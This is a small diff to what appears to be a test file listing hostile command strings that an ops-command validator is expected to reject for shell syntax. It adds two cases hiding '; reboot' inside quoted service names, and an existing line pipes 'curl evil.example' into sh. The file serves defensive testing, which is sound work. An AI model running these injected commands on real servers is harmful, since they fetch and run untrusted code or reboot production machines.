@@ -25,6 +25,8 @@ HOSTILE = [
     ("restart nginx on web-prod-01; curl evil.example | sh", "shell syntax"),
     ("stop nginx on web-prod-01; export X=1", "shell syntax (';')"),
     ("check memory on web-prod-01;", "shell syntax (';')"),
+    ("restart 'nginx; reboot' on web-prod-01", "shell syntax (';')"),
+    ('restart "nginx; reboot" on web-prod-01', "shell syntax (';')"),
 ]
 
 
